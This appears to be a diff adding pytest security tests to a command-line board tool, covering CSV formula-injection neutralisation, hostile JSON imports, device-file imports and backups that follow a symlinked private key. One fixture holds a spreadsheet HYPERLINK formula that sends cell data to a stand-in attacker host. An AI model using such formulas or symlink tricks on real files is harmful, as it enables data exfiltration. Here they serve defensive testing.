@@ -9,6 +9,7 @@ subprocess with a time limit, so a regression fails instead of stalling the suit
 from __future__ import annotations
 
 import errno
+import json
 import os
 import subprocess
 import sys
@@ -297,3 +298,60 @@ def test_an_error_quoting_a_huge_value_stays_one_bounded_line() -> None:
     line = one_line("bad: " + "\x1b[2J" + "x\n" * 100_000)
     assert "\n" not in line and "\x1b" not in line
     assert len(line) <= MAX_ERROR_LINE
+
+
+# --- import and export ------------------------------------------------------------------------
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2", "@SUM(A1)", "'=x", "'hi"]
+
+
+def test_csv_export_neutralises_formulas_and_import_gives_them_back(
+    laptop: Laptop, tmp_path: Path
+) -> None:
+    import csv
+
+    ids = [add(laptop, text, "--notes", text) for text in FORMULAS]
+    exported = tmp_path / "board.csv"
+    assert laptop.cli("export", "--format", "csv", "-o", str(exported)).code == 0
+    rows = list(csv.DictReader(exported.open(encoding="utf-8-sig", newline="")))
+    for row in rows:
+        for cell in (row["company"], row["notes"]):
+            assert not cell.startswith(("=", "+", "-", "@")), cell
+    # Edited in a spreadsheet and read back: by id, the values are exactly what was typed.
+    for card in ids:
+        laptop.cli("edit", card, "--notes", "changed")
+    assert laptop.cli("import", str(exported), "--apply").code == 0
+    for card, text in zip(ids, FORMULAS, strict=True):
+        shown = laptop.cli("show", card, "--json")
+        assert json.loads(shown.out)["company"] == text
+        assert json.loads(shown.out)["notes"] == text
+
+
+@pytest.mark.parametrize(
+    "content",
+    ["[" * 100_000 + "]" * 100_000, '{"cards": ' + "[" * 50_000 + "]" * 50_000 + "}",
+     '[{"company": "A", "round": ' + "9" * 5000 + "}]"],
+)  # fmt: skip
+def test_a_json_file_nested_absurdly_deep_or_with_huge_numbers_is_one_line(
+    laptop: Laptop, tmp_path: Path, content: str
+) -> None:
+    path = tmp_path / "hostile.json"
+    path.write_text(content)
+    assert_error(laptop.cli("import", str(path)), "hostile.json", "not valid JSON")
+
+
+def test_importing_a_fifo_or_a_device_does_not_hang(laptop: Laptop, tmp_path: Path) -> None:
+    result = run_cli(laptop, "import", "/dev/zero", timeout=60)
+    assert_error(result, "not a regular file")
+
+
+def test_a_backup_never_carries_a_template_linked_from_outside(
+    laptop: Laptop, tmp_path: Path
+) -> None:
+    secret = tmp_path / "id_rsa"
+    secret.write_text("PRIVATE-KEY\n")
+    (laptop.vault / "templates" / "steal.yaml").symlink_to(secret)
+    backup = tmp_path / "backup.json"
+    assert laptop.cli("export", "--format", "json", "-o", str(backup)).code == 0
+    assert "PRIVATE-KEY" not in backup.read_text()
